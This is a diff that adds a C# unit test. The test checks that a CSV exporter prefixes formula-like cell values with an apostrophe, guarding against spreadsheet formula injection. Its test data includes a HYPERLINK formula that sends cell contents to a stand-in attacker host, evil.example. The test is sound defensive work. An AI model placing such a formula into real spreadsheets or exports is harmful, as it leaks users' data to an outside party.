@@ -36,6 +36,26 @@ public sealed class ExportsTests
     }
 
     [Fact]
+    public void A_hostile_name_cannot_become_a_formula_in_a_spreadsheet()
+    {
+        const string hyperlink = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
+        var names = new[] { hyperlink, "+7 700 000 0000", "-2+3", "@SUM(A1)", "\tTab", "Safe - with a dash" };
+        var table = Awkward.With([.. names.Select((name, i) => new object?[] { name, -(i + 1), -0.5m, true })]);
+
+        var csv = Exports.Csv(table);
+        var rows = AnalyticsTests<Infrastructure.SqliteFactory>.ParseCsv(csv);
+
+        Assert.Equal(["'" + hyperlink, "-1", "-0.5", "true"], rows[1]);
+        Assert.Equal(["'+7 700 000 0000", "'-2+3", "'@SUM(A1)", "'\tTab", "Safe - with a dash"], rows.Skip(2).Select(r => r[0]));
+        // Figures are not text: a negative number stays a number.
+        Assert.All(rows.Skip(1), r => Assert.StartsWith("-", r[1], StringComparison.Ordinal));
+        Assert.Contains("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open\"\")\"", csv, StringComparison.Ordinal);
+        Assert.DoesNotContain("\n=", csv, StringComparison.Ordinal);
+        Assert.False(csv.StartsWith('\uFEFF'), "The exports never had a byte order mark.");
+        Assert.Equal(names.Length + 1, csv.Split("\r\n").Length - 1);
+    }
+
+    [Fact]
     public async Task Parquet_reads_back_the_same_types_and_values()
     {
         var bytes = await Exports.ParquetAsync(Awkward, TestContext.Current.CancellationToken);
